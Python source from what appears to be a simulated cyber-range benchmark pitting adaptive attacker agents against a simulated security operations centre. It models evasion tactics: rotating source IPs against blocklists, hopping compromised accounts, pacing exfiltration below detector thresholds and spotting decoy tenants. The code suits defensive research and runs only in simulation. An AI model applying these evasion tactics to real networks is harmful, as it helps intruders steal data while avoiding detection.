                f"cost={a.cost:.0f}")
            for line in a.stages:
                lines.append(f"      stage {line}")
        lines += [
            f"  detected_at={self.detected_at} "
            f"first_contained_at={self.first_contained_at} "
            f"post-detection-successes={self.post_detection_successes}",
            f"  defender: released={self.released_total} "
            f"re-contained={self.re_contained_total} "
            f"blocks peak={cov['peak']} final={cov['final']} "
            f"decay={cov['decay']}",
            f"  adaptation: time-to-re-entry="
            f"{f'{ttr:.1f}s' if ttr is not None else '-'} "
            f"containment-half-life="
            f"{f'{half:.1f}s' if half is not None else '-'} "
            f"cost/byte={f'{cpb:.3f}' if cpb is not None else '-'}",
        ]
        return lines


class ArmsRaceRunner:
    """Builds one world and runs its duel to completion."""

    def __init__(self, spec: Union[str, object] = "adaptive-sharded-hub", *,
                 seed: int = 7001, strategy: Optional[str] = None,
                 objective: Optional[str] = None,
                 adversary: Optional[AdversaryPolicy] = None,
                 response=None, waves: int = 2, settle: float = 10.0,
                 stagger: float = 3.0, **spec_overrides):
        from repro.topology import resolve_spec

        spec = resolve_spec(spec, **spec_overrides)
        policy = adversary or spec.adversary or AdversaryPolicy()
        if strategy is not None:
            policy = replace(policy, strategy=strategy)
        if objective is None:
            objective = DEFAULT_OBJECTIVE.get(policy.strategy)
        if objective is not None:
            policy = replace(policy, objective=objective)
        if policy is not spec.adversary:
            spec = replace(spec, adversary=policy)
        if response is not None:
            spec = replace(spec,
                           response=response,
                           name=f"{spec.name}+custom-response")
        self.spec = spec
        self.seed = seed
        self.waves = waves
        self.settle = settle
        self.stagger = stagger
        self.scenario = None  # the last-built world, for inspection

    def run(self) -> DuelReport:
        from repro.topology import WorldBuilder

        scenario = WorldBuilder().build(self.spec, seed=self.seed)
        self.scenario = scenario
        policy: AdversaryPolicy = scenario.adversary_policy or AdversaryPolicy()
        clock = scenario.clock
        started = clock.now()

        # Partition the source pool so concurrent agents never share an
        # identity (a block against one must not evict another).
        all_sources = [scenario.attacker_host] + list(scenario.adversary_pool)
        n = max(1, policy.n_agents)
        if n > len(all_sources):
            raise ValueError(
                f"{n} agents need at least {n} source hosts but the world "
                f"has {len(all_sources)} (1 + source_pool_size="
                f"{policy.source_pool_size}); raise "
                f"AdversaryPolicy.source_pool_size")
        agents = []
        for i in range(n):
            sources = all_sources[i::n]
            agents.append(AdversaryAgent(
                scenario,
                strategy=make_strategy(policy.strategy, policy),
                policy=policy, objective=policy.objective,
                name=f"{policy.strategy}-{i:02d}",
                rng=scenario.rng.child(f"adversary:{i}"),
                sources=sources, waves=self.waves))

        # Watch the defender through the observable action feed.
        block_open: Dict[str, float] = {}
        block_spans: List[Tuple[float, Optional[float]]] = []

        def on_action(action) -> None:
            if not action.ok or action.dry_run:
                return
            if action.action == "block_source":
                block_open.setdefault(action.target, action.ts)
            elif action.action == "unblock_source":
                opened = block_open.pop(action.target, None)
                if opened is not None:
                    block_spans.append((opened, action.ts))

        soc = getattr(scenario, "soc", None)
        if soc is not None:
            soc.subscribe(on_action)

        telemetry = getattr(scenario, "telemetry", None)
        tele_on = telemetry is not None and telemetry.enabled
        if tele_on:
            telemetry.timeline.record(
                started, "duel.start", source=policy.strategy,
                topology=self.spec.name, agents=len(agents), seed=self.seed)

        # Turn-accurate co-scheduling: earliest-deadline-first agenda.
        agenda: List[Tuple[float, int]] = [
            (started + i * self.stagger, i) for i in range(len(agents))]
        heapq.heapify(agenda)
        while agenda:
            ts, idx = heapq.heappop(agenda)
            now = clock.now()
            if ts > now:
                scenario.run(ts - now)
            delay = agents[idx].step()
            if delay is not None:
                heapq.heappush(agenda, (clock.now() + delay, idx))
        scenario.run(self.settle)
        if soc is not None:
            soc.poll()
        ended = clock.now()
        block_spans.extend((opened, None) for opened in block_open.values())
        block_spans.sort(key=lambda s: (s[0], s[1] if s[1] is not None
                                        else float("inf")))

        high = [n for n in scenario.monitor.logs.notices
                if n.severity in ("high", "critical")]
        reports = [a.report() for a in agents]
        if tele_on:
            # The attacker's lifecycle beats, stamped from the agents'
            # own logs so the merged timeline shows both sides of every
            # round (the SOC's actions are already on it).
            for report in reports:
                for ts in report.evictions:
                    telemetry.timeline.record(
                        ts, "adversary.evicted", source=report.name)
                for ts in report.re_entries:
                    telemetry.timeline.record(
                        ts, "adversary.reentered", source=report.name)
            telemetry.timeline.record(
                ended, "duel.end", source=policy.strategy,
                topology=self.spec.name,
                evictions=sum(len(r.evictions) for r in reports),
                re_entries=sum(len(r.re_entries) for r in reports))
        return DuelReport(
            topology=self.spec.name, strategy=policy.strategy,
            objective=policy.objective, seed=self.seed,
            started=started, ended=ended,
            agents=reports,
            detected_at=min((n.ts for n in high), default=None),
            first_contained_at=(soc.first_containment_ts()
                                if soc is not None else None),
            notices=sorted({n.name for n in high}),
            soc_summary=soc.summary() if soc is not None else None,
            block_spans=block_spans,
            released_total=soc.released_total if soc is not None else 0,
            re_contained_total=(soc.re_contained_total
                                if soc is not None else 0),
        )


@dataclass
class StrategyMatrixCell:
    topology: str
    strategy: str
    report: DuelReport

    def row(self) -> Dict[str, object]:
        m = self.report.adaptation_metrics()
        return {
            "topology": self.topology, "strategy": self.strategy,
            "objective": self.report.objective,
            "re_entries": len(self.report.re_entries),
            "re_containments": len(self.report.re_containments),
            "post_detection_successes": self.report.post_detection_successes,
            "bytes_looted": self.report.bytes_looted,
            "time_to_reentry": m["time_to_reentry"],
            "containment_half_life": m["containment_half_life"],
            "cost_per_byte": m["cost_per_exfiltrated_byte"],
            "coverage_decay": m["defense_coverage"]["decay"],
        }


class StrategyMatrixRunner:
    """Strategies × topologies: the standing adversary benchmark grid.

    Cell seeds depend only on the strategy index, so every topology row
    faces the same attacker decisions wherever the world allows it —
    rows are A/B-comparable the same way the campaign matrix's are.
    """

    def __init__(self, *,
                 topologies: Sequence[str] = ("adaptive-sharded-hub",
                                              "adaptive-sharded-hub-geo"),
                 strategies: Sequence[str] = ("static", "source-rotation",
                                              "low-and-slow"),
                 base_seed: int = 7100, waves: int = 2, **runner_kwargs):
        self.topologies = list(topologies)
        self.strategies = list(strategies)
        self.base_seed = base_seed
        self.waves = waves
        self.runner_kwargs = runner_kwargs

    def run(self) -> List[StrategyMatrixCell]:
        cells: List[StrategyMatrixCell] = []
        for topology in self.topologies:
            for s_idx, strategy in enumerate(self.strategies):
                runner = ArmsRaceRunner(
                    topology, seed=self.base_seed + 10 * s_idx,
                    strategy=strategy, waves=self.waves,
                    **self.runner_kwargs)
                cells.append(StrategyMatrixCell(
                    topology=topology, strategy=strategy, report=runner.run()))
        return cells

    @staticmethod
    def render(cells: Sequence[StrategyMatrixCell]) -> str:
        def fmt(value, spec="{:.1f}") -> str:
            return "-" if value is None else spec.format(value)

        lines = [f"{'topology':<26} {'strategy':<16} {'obj':<6} "
                 f"{'re-entry':>8} {'re-cont':>8} {'post-det':>8} "
                 f"{'loot(B)':>9} {'ttr(s)':>7} {'half(s)':>8} "
                 f"{'cost/B':>7} {'decay':>6}"]
        for cell in cells:
            r = cell.row()
            lines.append(
                f"{r['topology']:<26} {r['strategy']:<16} "
                f"{r['objective']:<6} {r['re_entries']:>8} "
                f"{r['re_containments']:>8} "
                f"{r['post_detection_successes']:>8} "
                f"{r['bytes_looted']:>9} "
                f"{fmt(r['time_to_reentry']):>7} "
                f"{fmt(r['containment_half_life']):>8} "
                f"{fmt(r['cost_per_byte'], '{:.3f}'):>7} "
                f"{r['coverage_decay']:>6}")
        return "\n".join(lines)
