"""The adaptive adversary agent: campaign execution with a feedback loop.

One :class:`AdversaryAgent` owns a resumable
:class:`~repro.attacks.campaign.CampaignPlan` and plays it against a
(possibly defended) world one *turn* at a time.  Each turn it either

- runs the next pending stage and then fires a canary probe through its
  :class:`~repro.adversary.view.AttackSurfaceView` to learn whether the
  defense moved against it, or
- — when locked out — asks its :class:`~repro.adversary.strategy.Strategy`
  for one recovery move (rotate source, hop account, wait out a TTL) and
  verifies the move with a probe.

The agent wields the scenario's attacker identity: before every stage it
points ``scenario.attacker_host``/``scenario.token`` at its current
source and credential, which is exactly what those fields model (the
infrastructure and credential the attacker currently operates from).
The whole attack suite therefore runs unchanged under rotation and
account hopping.

Everything the agent knows, it learned from its own traffic: evictions
come from probe classifications, never from defender state.  Entries,
evictions, and re-entries are timestamped, which is what the adaptation
metrics (time-to-re-entry, containment half-life, cost per exfiltrated
byte) are computed from.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Set, Tuple

from repro.adversary.policy import AdversaryPolicy
from repro.adversary.strategy import Strategy
from repro.adversary.view import AttackSurfaceView, FeedbackEvent
from repro.attacks.campaign import Campaign, CampaignPlan, PlannedStage
from repro.attacks.exfiltration import ExfiltrationAttack
from repro.attacks.hubpivot import CrossTenantPivotAttack
from repro.attacks.takeover import StolenTokenAttack
from repro.simnet import Host
from repro.util.rng import DeterministicRNG

#: Cap on the exponential recovery backoff (sim seconds) — long enough
#: to straddle a containment TTL window, short enough to keep duels fast.
MAX_BACKOFF = 32.0


def build_plan(objective: str, *, waves: int = 2,
               request_delay: float = 0.4) -> CampaignPlan:
    """The adaptive campaign plans: access, then ``waves`` repetitions
    of the objective action — the later waves are where adaptation (or
    the lack of it) becomes visible."""
    stages = [StolenTokenAttack()]
    if objective == "pivot":
        stages += [CrossTenantPivotAttack(request_delay=request_delay)
                   for _ in range(waves)]
    elif objective == "steal":
        stages += [ExfiltrationAttack() for _ in range(waves)]
    else:
        raise KeyError(f"unknown adversary objective {objective!r} "
                       f"(have: pivot, steal)")
    return CampaignPlan(Campaign(0, stages, objective))


@dataclass
class AgentReport:
    """One agent's side of the duel, attacker-observable data only."""

    name: str
    strategy: str
    objective: str
    finish_reason: str
    entries: List[float]
    evictions: List[float]
    re_entries: List[float]
    rotations: int
    hops: int
    sources_used: int
    sources_burned: int
    burned_source_ips: List[str]
    accounts_used: int
    suspected_decoys: List[str]
    bytes_exfiltrated: int
    bytes_browsed: int
    probes: int
    requests: int
    cost: float
    stages: List[str]
    stage_results: List[Tuple[str, bool, float]]  # (attack, success, started)

    @property
    def re_containments(self) -> List[float]:
        """Evictions the defender scored *after* the attacker had
        already re-entered once — the defender's rounds of the race."""
        if not self.re_entries:
            return []
        first = self.re_entries[0]
        return [ts for ts in self.evictions if ts > first]

    def to_dict(self) -> Dict[str, object]:
        return {
            "name": self.name, "strategy": self.strategy,
            "objective": self.objective, "finish_reason": self.finish_reason,
            "entries": self.entries, "evictions": self.evictions,
            "re_entries": self.re_entries,
            "re_containments": self.re_containments,
            "rotations": self.rotations, "hops": self.hops,
            "sources_used": self.sources_used,
            "sources_burned": self.sources_burned,
            "burned_source_ips": self.burned_source_ips,
            "accounts_used": self.accounts_used,
            "suspected_decoys": self.suspected_decoys,
            "bytes_exfiltrated": self.bytes_exfiltrated,
            "bytes_browsed": self.bytes_browsed,
            "probes": self.probes, "requests": self.requests,
            "cost": round(self.cost, 2),
            "stages": self.stages,
        }


class AdversaryAgent:
    """One attacker operator in the arms race."""

    def __init__(self, scenario, *, strategy: Strategy,
                 policy: Optional[AdversaryPolicy] = None,
                 name: str = "apt-00", objective: Optional[str] = None,
                 rng: Optional[DeterministicRNG] = None,
                 sources: Optional[List[Host]] = None, waves: int = 2):
        self.scenario = scenario
        self.policy = policy or getattr(scenario, "adversary_policy", None) \
            or AdversaryPolicy()
        self.strategy = strategy
        self.name = name
        self.objective = objective or self.policy.objective
        self.rng = rng or scenario.rng.child(f"adversary:{name}")
        self.view = AttackSurfaceView(scenario)
        # -- attacker resources ------------------------------------------------
        pool = sources if sources is not None else \
            [scenario.attacker_host] + list(
                getattr(scenario, "adversary_pool", ()) or ())
        self.sources: List[Host] = list(pool)
        self.current_source: Host = self.sources[0]
        self.burned_sources: Dict[str, float] = {}
        self.accounts: List[Tuple[str, str]] = list(
            getattr(scenario, "compromised_accounts", ()) or ())
        self.current_token: str = scenario.token
        self.target_tenant: str = getattr(scenario, "default_tenant", "")
        self.burned_accounts: Set[str] = set()
        self.accounts_used = 1
        # -- plan and learned state --------------------------------------------
        self.plan = build_plan(self.objective, waves=waves)
        self.known_tenants: Optional[List[str]] = None
        self.looted_tenants: Set[str] = set()
        self.suspected_decoys: Set[str] = set()
        self.last_touched: str = ""
        # -- timeline ----------------------------------------------------------
        self.started_at = scenario.clock.now()
        self.entries: List[float] = []
        self.evictions: List[float] = []
        self.re_entries: List[float] = []
        self.rotations = 0
        self.hops = 0
        self.bytes_exfiltrated = 0
        self.bytes_browsed = 0
        self.has_access = True  # optimistic until a probe says otherwise
        self.finished = False
        self.finish_reason = ""
        self._recover_attempts = 0
        self.strategy.prepare(self)

    # -- identity moves (called by strategies) --------------------------------
    def _assume_identity(self) -> None:
        self.scenario.attacker_host = self.current_source
        self.scenario.token = self.current_token

    def mark_source_burned(self) -> None:
        self.burned_sources.setdefault(self.current_source.ip,
                                       self.scenario.clock.now())

    def rotate_source(self, *, recycle: bool = True) -> bool:
        """Move to a fresh pool source; with ``recycle``, fall back to
        the longest-cold burned source (a bet on blocklist TTLs)."""
        fresh = [h for h in self.sources
                 if h.ip not in self.burned_sources
                 and h is not self.current_source]
        if fresh:
            self.current_source = fresh[0]
        elif recycle:
            candidates = [h for h in self.sources if h is not self.current_source]
            if not candidates:
                return False
            self.current_source = min(
                candidates,
                key=lambda h: self.burned_sources.get(h.ip, float("inf")))
        else:
            return False
        self.rotations += 1
        return True

    def mark_account_burned(self) -> None:
        if self.target_tenant:
            self.burned_accounts.add(self.target_tenant)

    def hop_account(self) -> bool:
        """Re-enter through the next unburned compromised account."""
        for tenant, token in self.accounts:
            if tenant not in self.burned_accounts and tenant != self.target_tenant:
                self.target_tenant = tenant
                self.current_token = token
                self.hops += 1
                self.accounts_used += 1
                return True
        return False

    # -- the feedback loop ----------------------------------------------------
    def check_access(self) -> FeedbackEvent:
        event = self.view.probe(source=self.current_source,
                                tenant=self.target_tenant,
                                token=self.current_token)
        self._observe_access(event)
        return event

    def _observe_access(self, event: FeedbackEvent) -> None:
        if event.kind == "ok":
            if not self.has_access:
                self.has_access = True
                self._recover_attempts = 0
                (self.re_entries if self.evictions else self.entries).append(event.ts)
            elif not self.entries:
                self.entries.append(event.ts)
            return
        if event.locked_out and self.has_access:
            self.has_access = False
            self.evictions.append(event.ts)
            self.strategy.on_eviction(self, event)

    # -- stage execution ------------------------------------------------------
    def _run_stage(self, stage: PlannedStage) -> None:
        self._assume_identity()
        self.strategy.before_stage(self, stage)
        try:
            result = stage.attack.run(self.scenario)
        except Exception as e:
            # The stage died against containment mid-flight (severed
            # relay, refused spawn, quarantined backend): resumable.
            self.view.events.append(FeedbackEvent(
                ts=self.scenario.clock.now(), kind="severed",
                source=self.current_source.ip, tenant=self.target_tenant,
                detail=f"{type(e).__name__}: {e}"))
            self.plan.record(stage, None, completed=False)
            self.strategy.on_stage(self, stage, None)
            return
        self.plan.record(stage, result, completed=result.success)
        m = result.metrics
        self.bytes_exfiltrated += int(m.get("bytes_exfiltrated", 0) or 0)
        self.bytes_browsed += int(m.get("bytes_browsed", 0) or 0)
        self.strategy.on_stage(self, stage, result)

    # -- the turn -------------------------------------------------------------
    def step(self) -> Optional[float]:
        """Take one turn; returns sim-seconds until the next turn, or
        ``None`` when this agent is done."""
        if self.finished:
            return None
        now = self.scenario.clock.now()
        if now - self.started_at >= self.policy.horizon:
            return self._finish("horizon")
        if not self.has_access:
            if self._recover_attempts >= self.policy.patience:
                return self._finish("gave-up")
            self._recover_attempts += 1
            if not self.strategy.recover(self):
                return self._finish("no-moves")
            event = self.check_access()
            if event.kind == "ok":
                return self.policy.think_time
            # Still locked out: back off exponentially, so a strategy
            # recycling burned resources can straddle a containment TTL.
            return min(MAX_BACKOFF,
                       self.policy.think_time * (2 ** self._recover_attempts))
        stage = self.plan.next_stage()
        if stage is None:
            return self._finish("objective-complete")
        self._run_stage(stage)
        for _ in range(self.strategy.canary_probes):
            self.check_access()
            if not self.has_access:
                break
        else:
            self.strategy.on_all_clear(self)
        return self.policy.think_time

    def run_to_completion(self, *, max_turns: int = 200) -> "AgentReport":
        """Drive this agent alone (the single-duel convenience path; the
        multi-agent scheduler lives in the runner)."""
        for _ in range(max_turns):
            delay = self.step()
            if delay is None:
                break
            self.scenario.run(delay)
        else:
            self._finish("turn-budget")
        return self.report()

    def _finish(self, reason: str) -> None:
        self.finished = True
        self.finish_reason = reason
        return None

    # -- reporting ------------------------------------------------------------
    @property
    def cost(self) -> float:
        """Attacker spend under the policy's cost model: burned
        infrastructure, extra accounts, and probe traffic."""
        p = self.policy
        return (len(self.burned_sources) * p.cost_per_source
                + (self.accounts_used - 1) * p.cost_per_account
                + self.view.requests * p.cost_per_request)

    def report(self) -> AgentReport:
        used_ips = {self.current_source.ip} | set(self.burned_sources)
        return AgentReport(
            name=self.name, strategy=self.strategy.name,
            objective=self.objective,
            finish_reason=self.finish_reason or ("running" if not self.finished
                                                 else "done"),
            entries=list(self.entries), evictions=list(self.evictions),
            re_entries=list(self.re_entries),
            rotations=self.rotations, hops=self.hops,
            sources_used=len(used_ips),
            sources_burned=len(self.burned_sources),
            burned_source_ips=sorted(self.burned_sources),
            accounts_used=self.accounts_used,
            suspected_decoys=sorted(self.suspected_decoys),
            bytes_exfiltrated=self.bytes_exfiltrated,
            bytes_browsed=self.bytes_browsed,
            probes=self.view.probes, requests=self.view.requests,
            cost=self.cost,
            stages=self.plan.summary(),
            stage_results=[(r.attack, r.success, r.started)
                           for r in self.plan.results()],
        )
