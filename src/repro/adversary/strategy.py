"""Pluggable adversary strategies: how an agent adapts to containment.

A :class:`Strategy` owns the *adaptive* decisions of one
:class:`~repro.adversary.agent.AdversaryAgent`; the agent owns
execution.  The hooks form a small lifecycle:

- :meth:`prepare` — shape the initial plan (e.g. swap bulk exfil for a
  calibrated drip before the first byte moves);
- :meth:`before_stage` — last-moment stage tuning (e.g. inject the
  avoid-list into a sweep);
- :meth:`on_stage` — digest a stage result;
- :meth:`on_eviction` — digest a lock-out observed by the canary probe;
- :meth:`recover` — make one move to regain access (rotate, hop, wait);
  returning ``False`` concedes the duel.

The strategies form a lattice, not a flat list: ``tenant-hop`` and
``decoy-wary`` both *extend* ``source-rotation`` (a burned source must
still be rotated away from, whatever else the attacker learns), while
``low-and-slow`` replaces noisy stages instead of reacting to
containment — its bet is that containment never happens.
"""

from __future__ import annotations

from typing import Dict, List, Optional, TYPE_CHECKING, Type

from repro.adversary.policy import AdversaryPolicy
from repro.adversary.view import FeedbackEvent
from repro.attacks.campaign import PlannedStage
from repro.attacks.exfiltration import ExfiltrationAttack, LowAndSlowExfiltration
from repro.attacks.hubpivot import CrossTenantPivotAttack
from repro.attacks.takeover import StolenTokenAttack

if TYPE_CHECKING:  # pragma: no cover
    from repro.adversary.agent import AdversaryAgent


class Strategy:
    """Base strategy: run the plan as-is, give up on first eviction."""

    name = "abstract"
    #: Canary probes fired after each stage.  More probes stretch the
    #: post-stage observation window (each costs ~a sim-second), which
    #: matters to strategies that must attribute a containment to the
    #: exact move that triggered it.
    canary_probes = 1

    def __init__(self, policy: AdversaryPolicy):
        self.policy = policy

    # -- lifecycle hooks ------------------------------------------------------
    def prepare(self, agent: "AdversaryAgent") -> None:
        pass

    def before_stage(self, agent: "AdversaryAgent", stage: PlannedStage) -> None:
        pass

    def on_stage(self, agent: "AdversaryAgent", stage: PlannedStage,
                 result) -> None:
        pass

    def on_eviction(self, agent: "AdversaryAgent", event: FeedbackEvent) -> None:
        pass

    def on_all_clear(self, agent: "AdversaryAgent") -> None:
        """The full canary window after a stage came back clean."""

    def recover(self, agent: "AdversaryAgent") -> bool:
        return False

    def describe(self) -> str:
        return (self.__doc__ or "").strip().splitlines()[0]


class StaticStrategy(Strategy):
    """The pre-PR-5 attacker: a scripted campaign with no feedback loop —
    the baseline every adaptive strategy is measured against."""

    name = "static"


class SourceRotation(Strategy):
    """Rotate to a fresh source IP from the seeded pool when the current
    one is burned; once the pool is exhausted, retry the longest-cold
    burned source (betting the blocklist has a TTL)."""

    name = "source-rotation"

    def on_eviction(self, agent: "AdversaryAgent", event: FeedbackEvent) -> None:
        if event.kind in ("blocked", "severed"):
            agent.mark_source_burned()

    def recover(self, agent: "AdversaryAgent") -> bool:
        return agent.rotate_source(recycle=True)


class LowAndSlow(Strategy):
    """Never trip the volume detectors in the first place: drop the loud
    access stage, and pace exfiltration below both the windowed egress
    floor and the CUSUM drift allowance, with jittered inter-burst gaps.

    Calibration is read off the world's *spec* (the attacker is assumed
    to have recon'd the monitoring posture); ``pacing_safety`` keeps the
    achieved rate a margin under the floor.
    """

    name = "low-and-slow"

    #: Sim-seconds one drip burst occupies beyond the configured gap
    #: (the kernel execute round-trip the attack waits out per burst).
    BURST_OVERHEAD = 30.0

    def __init__(self, policy: AdversaryPolicy, *, total_bytes: int = 6400):
        super().__init__(policy)
        self.total_bytes = total_bytes

    def calibrate(self, agent: "AdversaryAgent") -> LowAndSlowExfiltration:
        spec = agent.scenario.spec
        monitor = spec.monitor if spec is not None else None
        egress_rate = (monitor.egress_threshold_bytes if monitor else 20_000) / 60.0
        cusum_rate = ((monitor.cusum_baseline + monitor.cusum_slack)
                      if monitor else 400.0) / 10.0
        rate = min(egress_rate, cusum_rate) * self.policy.pacing_safety
        interval = 10.0
        burst = max(64, int(rate * (self.BURST_OVERHEAD + interval)))
        return LowAndSlowExfiltration(
            bytes_per_burst=burst, interval_seconds=interval,
            total_bytes=self.total_bytes, jitter=3.0)

    def prepare(self, agent: "AdversaryAgent") -> None:
        for stage in agent.plan.stages:
            if isinstance(stage.attack, StolenTokenAttack):
                # The content browse is ~30 kB of proxy→attacker egress —
                # exactly the loud tell this strategy exists to avoid.
                agent.plan.abandon(stage)
            elif isinstance(stage.attack, ExfiltrationAttack) \
                    and not isinstance(stage.attack, LowAndSlowExfiltration):
                agent.plan.replace(stage, self.calibrate(agent))

    def on_eviction(self, agent: "AdversaryAgent", event: FeedbackEvent) -> None:
        # Caught anyway: halve the pace on whatever drip remains.
        for stage in agent.plan.stages:
            if stage.status == "pending" and \
                    isinstance(stage.attack, LowAndSlowExfiltration):
                stage.attack.bytes_per_burst = max(
                    64, stage.attack.bytes_per_burst // 2)


class TenantHop(SourceRotation):
    """Re-enter through an unburned compromised account when the held
    credential dies or the target tenant is quarantined; burned sources
    still rotate (this strategy extends source rotation)."""

    name = "tenant-hop"

    def on_eviction(self, agent: "AdversaryAgent", event: FeedbackEvent) -> None:
        super().on_eviction(agent, event)
        if event.kind in ("denied", "quarantined"):
            agent.mark_account_burned()

    def recover(self, agent: "AdversaryAgent") -> bool:
        last = agent.view.last_event()
        if last is not None and last.kind in ("denied", "quarantined"):
            if agent.hop_account():
                return True
        return super().recover(agent)


class DecoyWary(SourceRotation):
    """Guard-discovery-style probing: loot one tenant per turn with a
    canary window in between, so a burn is blamed on *exactly* the
    tenant touched last — which is then marked as a suspected decoy and
    never touched again (by this agent or anyone sharing its intel)."""

    name = "decoy-wary"
    #: Two canaries ~a second apart straddle the SOC's poll interval, so
    #: a containment triggered by this turn's touch is observed *this*
    #: turn — the blame window never slips onto the next tenant.
    canary_probes = 3

    def __init__(self, policy: AdversaryPolicy):
        super().__init__(policy)
        #: Tenants that survived a full canary window after being looted
        #: — touching them again is established as safe.
        self.cleared: set = set()

    def prepare(self, agent: "AdversaryAgent") -> None:
        # Full sweeps are what burns you: drop them; the per-tenant loot
        # stages are appended one at a time as the duel progresses.
        for stage in agent.plan.stages:
            if isinstance(stage.attack, CrossTenantPivotAttack):
                agent.plan.abandon(stage)

    def _next_target(self, agent: "AdversaryAgent") -> Optional[str]:
        if agent.known_tenants is None:
            agent.known_tenants = agent.view.enumerate_tenants(
                source=agent.current_source, token=agent.current_token)
        for name in agent.known_tenants:
            if name not in agent.looted_tenants \
                    and name not in agent.suspected_decoys:
                return name
        return None

    def before_stage(self, agent: "AdversaryAgent", stage: PlannedStage) -> None:
        if isinstance(stage.attack, CrossTenantPivotAttack):
            stage.attack.avoid = set(agent.suspected_decoys)

    def on_stage(self, agent: "AdversaryAgent", stage: PlannedStage,
                 result) -> None:
        if isinstance(stage.attack, CrossTenantPivotAttack) \
                and stage.attack.targets:
            agent.last_touched = stage.attack.targets[-1]
            if stage.status == "done":
                agent.looted_tenants.update(stage.attack.targets)
        if agent.plan.done:
            target = self._next_target(agent)
            if target is not None:
                agent.plan.append(CrossTenantPivotAttack(
                    targets=[target], request_delay=0.4,
                    avoid=set(agent.suspected_decoys)))

    def on_all_clear(self, agent: "AdversaryAgent") -> None:
        if agent.last_touched:
            self.cleared.add(agent.last_touched)

    def on_eviction(self, agent: "AdversaryAgent", event: FeedbackEvent) -> None:
        super().on_eviction(agent, event)
        if agent.last_touched and agent.last_touched not in self.cleared:
            # The canary window tripped right after touching exactly one
            # new tenant: that tenant is the bait.
            agent.suspected_decoys.add(agent.last_touched)

    def recover(self, agent: "AdversaryAgent") -> bool:
        moved = super().recover(agent)
        if moved and agent.plan.done:
            # Back in: queue the next untouched, unsuspected tenant.
            target = self._next_target(agent)
            if target is not None:
                agent.plan.append(CrossTenantPivotAttack(
                    targets=[target], request_delay=0.4,
                    avoid=set(agent.suspected_decoys)))
        return moved


class TimingRecon(DecoyWary):
    """Fingerprint first, loot second: a pre-campaign timing-recon pass
    (see :class:`~repro.traffic.fingerprint.TrafficFingerprinter`) maps
    tenants to shards and flags decoys from response latency alone —
    zero 403s — so the guard-discovery loop starts already knowing which
    tenants are bait instead of paying a burned source to find out."""

    name = "timing-recon"

    def __init__(self, policy: AdversaryPolicy):
        super().__init__(policy)
        self.verdict = None  # FingerprintVerdict once prepare() has run

    def prepare(self, agent: "AdversaryAgent") -> None:
        from repro.traffic.fingerprint import TrafficFingerprinter

        super().prepare(agent)
        if agent.known_tenants is None:
            agent.known_tenants = agent.view.enumerate_tenants(
                source=agent.current_source, token=agent.current_token)
        self.verdict = TrafficFingerprinter(agent.view).run(
            source=agent.current_source, token=agent.current_token,
            tenants=agent.known_tenants)
        agent.suspected_decoys.update(self.verdict.suspected_decoys)


#: name -> strategy class (``repro adversary --list``).
STRATEGIES: Dict[str, Type[Strategy]] = {
    StaticStrategy.name: StaticStrategy,
    SourceRotation.name: SourceRotation,
    LowAndSlow.name: LowAndSlow,
    TenantHop.name: TenantHop,
    DecoyWary.name: DecoyWary,
    TimingRecon.name: TimingRecon,
}


def list_strategies() -> List[str]:
    return sorted(STRATEGIES)


def make_strategy(name: str, policy: AdversaryPolicy) -> Strategy:
    cls = STRATEGIES.get(name)
    if cls is None:
        raise KeyError(f"unknown adversary strategy {name!r} "
                       f"(registered: {', '.join(list_strategies())})")
    return cls(policy)
