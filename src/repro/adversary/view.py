"""What the attacker can actually see: the attack-surface view.

An adaptive adversary never reads defender state (the blocklist, the
incident log, the quarantine set) — it infers the defense's shape from
its *own* traffic, exactly the feedback channels a real operator has:

- a request answered ``403 ... blocked by security policy`` — the
  current source is burned at the front door;
- a plain ``403 Forbidden`` — the held credential stopped working
  (rotated token, proxy ACL);
- ``503 server ... not running`` — the target tenant's backend is gone
  (quarantined, culled, or stopped);
- no response at all / a send on a closed channel — an established
  relay was severed mid-flight.

:class:`AttackSurfaceView` issues probes, classifies responses into
:class:`FeedbackEvent` records, and keeps the attacker-side event log
that strategies (and the arms-race report) reason over.  Everything here
costs the attacker real (simulated) time and requests — probing is not
free, which is what makes low-and-slow vs probe-heavy strategies an
actual trade.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, TYPE_CHECKING

from repro.server.gateway import WebSocketKernelClient
from repro.simnet import Host
from repro.util.errors import ReproError

if TYPE_CHECKING:  # pragma: no cover
    from repro.attacks.scenario import Scenario

#: Feedback kinds, worst first (used to rank what a probe revealed).
KINDS = ("blocked", "severed", "denied", "quarantined", "not-found", "ok")


@dataclass
class FeedbackEvent:
    """One attacker-side observation of the defense."""

    ts: float
    kind: str          # see KINDS
    source: str        # IP the observation was made from
    tenant: str        # tenant targeted ("" for hub-level requests)
    status: int = 0    # HTTP status (0 when the channel died instead)
    detail: str = ""
    #: Send-to-first-response SimClock delta and response body size —
    #: the attacker's own timing/size side channel (0.0/0 when the
    #: request died without a response).
    elapsed: float = 0.0
    resp_bytes: int = 0

    @property
    def locked_out(self) -> bool:
        return self.kind in ("blocked", "severed", "denied", "quarantined")


def classify(status: int, body: bytes) -> str:
    """Map one HTTP response to the attacker-visible feedback kind."""
    if status == 403:
        return "blocked" if b"blocked by security policy" in body else "denied"
    if status == 503:
        return "quarantined"
    if status == 404:
        return "not-found"
    if status in (200, 201, 204):
        return "ok"
    return "denied" if status >= 400 else "ok"


class AttackSurfaceView:
    """The adversary's periscope over one scenario.

    All traffic goes through the same front doors as any client; the
    only privileged knowledge is *which host object to send from*, which
    the agent supplies per call (that is the identity being tested).
    """

    def __init__(self, scenario: "Scenario"):
        from repro.telemetry import Telemetry

        self.scenario = scenario
        self.events: List[FeedbackEvent] = []
        self.probes = 0
        self.requests = 0
        self.telemetry = getattr(scenario, "telemetry", None) or Telemetry.disabled()
        self._tele_on = self.telemetry.enabled
        if self._tele_on:
            self._register_metrics()

    def _register_metrics(self) -> None:
        registry = self.telemetry.registry
        probes = registry.counter("adversary_probes_total",
                                  "Attacker-side access probes issued")
        requests = registry.counter("adversary_requests_total",
                                    "Attacker-side requests issued")
        feedback = registry.counter(
            "adversary_feedback_total",
            "Attacker-observable feedback events, by kind",
            labels=("kind",))

        def _collect() -> None:
            probes.set(self.probes)
            requests.set(self.requests)
            for kind in KINDS:
                n = sum(1 for e in self.events if e.kind == kind)
                if n:
                    feedback.labels(kind=kind).set(n)

        registry.register_collector(_collect)

    # -- plumbing -------------------------------------------------------------
    def _front_door(self, tenant: str) -> Host:
        front = getattr(self.scenario, "front_door_host", None)
